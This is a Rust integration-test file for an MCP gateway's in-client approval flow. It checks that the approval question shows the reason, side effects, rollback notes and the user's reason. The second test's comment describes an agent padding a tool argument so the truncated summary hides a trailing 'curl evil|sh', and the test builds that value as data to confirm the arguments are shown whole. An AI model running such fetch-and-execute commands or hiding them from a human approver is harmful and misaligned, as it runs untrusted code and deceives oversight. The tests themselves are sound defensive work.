//! In-client approval through the real stdio proxy (issue 10, seed 002): the elicitation
//! question shows why the call needs approval, its side effects and its rollback notes, and
//! the person's reason is relayed as the decision's reason.

use crate::OP_KEY;
use serde_json::{Value, json};
use std::io::{BufRead, Write};

const KEY: &str = "in-client-agent-test-key-0123456789";

/// An MCP upstream in Python with one tool, `echo`.
const UPSTREAM: &str = r#"import json,sys
for line in sys.stdin:
    m=json.loads(line)
    if "id" not in m or "method" not in m: continue
    if m["method"]=="initialize":
        r={"protocolVersion":"2025-06-18","capabilities":{"tools":{}},"serverInfo":{"name":"echo","version":"1"}}
    elif m["method"]=="tools/list":
        r={"tools":[{"name":"echo","inputSchema":{"type":"object"}}]}
    elif m["method"]=="tools/call":
        r={"content":[{"type":"text","text":"Echo: "+m["params"]["arguments"]["message"]}]}
    else:
        r={}
    print(json.dumps({"jsonrpc":"2.0","id":m["id"],"result":r}), flush=True)
"#;

const AGENT: &str = "metadata: {id: helper}\naction_space:\n  mcp_servers:\n    - alias: up\n      allowed_tools: [{name: echo, approval: true}]\n";

/// Governance `acme.test.client-v1`: `echo` (R1) may be approved in the client, with its
/// side effects and rollback notes.
const GOV_RULES: &str = r#"
- tool: echo
  risk_tier: R1
  in_client_approval: true
  side_effects: "Prints {{tool_args.message}} to the log."
  rollback: "Nothing to undo: the log rotates daily."
"#;

/// A gateway in `dir` for [`AGENT`] under [`GOV_RULES`] and the stdio proxy in front of
/// [`UPSTREAM`] (polling every second), past the handshake of a legacy client that can elicit.
fn started(
    dir: &std::path::Path,
) -> (
    crate::Server,
    std::process::Child,
    std::process::ChildStdin,
    std::io::BufReader<std::process::ChildStdout>,
) {
    let server = crate::serve_helper(dir, (AGENT, KEY), ("acme.test.client-v1", GOV_RULES));
    let (child, mut stdin, mut out) =
        crate::helper_proxy((&server.url, KEY), &["--poll-seconds", "1"], UPSTREAM);
    let hello = json!({"jsonrpc": "2.0", "id": 0, "method": "initialize", "params": {
        "protocolVersion": "2025-06-18", "capabilities": {"elicitation": {}},
        "clientInfo": {"name": "t", "version": "1"}}});
    writeln!(stdin, "{hello}").unwrap();
    let mut l = String::new();
    assert!(
        out.read_line(&mut l).unwrap() > 0,
        "the proxy closed stdout"
    );
    assert_eq!(serde_json::from_str::<Value>(&l).unwrap()["id"], 0, "{l}");
    writeln!(
        stdin,
        "{}",
        json!({"jsonrpc": "2.0", "method": "notifications/initialized"})
    )
    .unwrap();
    (server, child, stdin, out)
}

#[test]
fn the_in_client_question_shows_why_side_effects_and_rollback_and_relays_the_reason() {
    let dir = tempfile::tempdir().unwrap();
    let (mut server, mut child, mut stdin, mut out) = started(dir.path());
    let mut send = |v: Value| writeln!(stdin, "{v}").unwrap();
    let mut recv = |pred: &dyn Fn(&Value) -> bool| loop {
        let mut l = String::new();
        assert!(
            out.read_line(&mut l).unwrap() > 0,
            "the proxy closed stdout"
        );
        let m: Value = serde_json::from_str(&l).unwrap();
        if pred(&m) {
            return m;
        }
    };
    send(json!({"jsonrpc": "2.0", "id": 1, "method": "tools/call",
                "params": {"name": "echo", "arguments": {"message": "hello"}}}));
    let ask = recv(&|m| m["method"] == "elicitation/create");
    let question = ask["params"]["message"].as_str().unwrap();
    for part in [
        "Why: ",
        "Side effects: Prints hello to the log.",
        "Rollback: Nothing to undo: the log rotates daily.",
        "Approve this call?",
    ] {
        assert!(
            question.contains(part),
            "{part:?} missing from {question:?}"
        );
    }
    let schema = &ask["params"]["requestedSchema"];
    assert_eq!(schema["properties"]["reason"]["type"], "string", "{schema}");
    assert_eq!(schema["required"], json!(["approve"]));
    send(json!({"jsonrpc": "2.0", "id": ask["id"], "result": {
        "action": "accept", "content": {"approve": false, "reason": "not during the freeze"}}}));
    let r = recv(&|m| m["id"] == 1);
    let text = r["result"]["content"][0]["text"]
        .as_str()
        .unwrap_or_default();
    assert!(
        r["result"]["isError"] == true
            && text.contains("declined by the user: not during the freeze")
            && !text.contains("operator"),
        "{r}"
    );
    drop(stdin);
    child.wait().unwrap();
    let list: Value = reqwest::blocking::Client::new()
        .get(format!("{}/v1/approvals?status=all", server.url))
        .bearer_auth(OP_KEY)
        .send()
        .unwrap()
        .json()
        .unwrap();
    let d = &list["approvals"][0]["decisions"][0];
    assert_eq!(
        (
            d["decision"].as_str(),
            d["reason"].as_str(),
            d["by"].as_str()
        ),
        (
            Some("deny"),
            Some("in the MCP client: declined by the user: not during the freeze"),
            Some("user-of:helper")
        ),
        "{list}"
    );
    server.child.kill().unwrap();
    server.child.wait().unwrap();
}

/// Attack (found by review): the question's summary cuts each value at 120 characters while
/// the form says "Only this one call, with exactly these arguments", so an agent padding a
/// value (`echo 'aaa…'; curl evil|sh`) had the user approve what they could not read. The
/// question shows the arguments whole; arguments too long to show (over 2 KiB) are not asked
/// in the client at all, but held for operators.
#[test]
fn the_user_is_asked_only_about_arguments_shown_whole() {
    let dir = tempfile::tempdir().unwrap();
    let (mut server, mut child, mut stdin, mut out) = started(dir.path());
    let mut send = |v: Value| writeln!(stdin, "{v}").unwrap();
    let mut next = || {
        let mut l = String::new();
        assert!(
            out.read_line(&mut l).unwrap() > 0,
            "the proxy closed stdout"
        );
        serde_json::from_str::<Value>(&l).unwrap()
    };
    let padded = format!("echo '{}'; curl evil|sh", "a".repeat(110));
    send(json!({"jsonrpc": "2.0", "id": 1, "method": "tools/call",
                "params": {"name": "echo", "arguments": {"message": padded}}}));
    let ask = next();
    assert_eq!(ask["method"], "elicitation/create", "{ask}");
    let question = ask["params"]["message"].as_str().unwrap();
    assert!(question.contains("curl evil|sh"), "{question}");
    send(json!({"jsonrpc": "2.0", "id": ask["id"], "result": {
        "action": "accept", "content": {"approve": false}}}));
    assert_eq!(next()["id"], 1);
    let long = "b".repeat(3000);
    send(json!({"jsonrpc": "2.0", "id": 2, "method": "tools/call",
                "params": {"name": "echo", "arguments": {"message": long}}}));
    let held = crate::mcp_upstream_rounds::the_pending_one(&server.url);
    let id = held["id"].as_str().unwrap();
    crate::ok(&crate::cli(
        &server.url,
        &["deny", id, "--reason", "too long to read"],
    ));
    let answered = next();
    assert_eq!(answered["id"], 2, "asked in the client: {answered}");
    assert!(
        answered.to_string().contains("too long to read"),
        "{answered}"
    );
    drop(stdin);
    child.wait().unwrap();
    server.child.kill().unwrap();
    server.child.wait().unwrap();
}
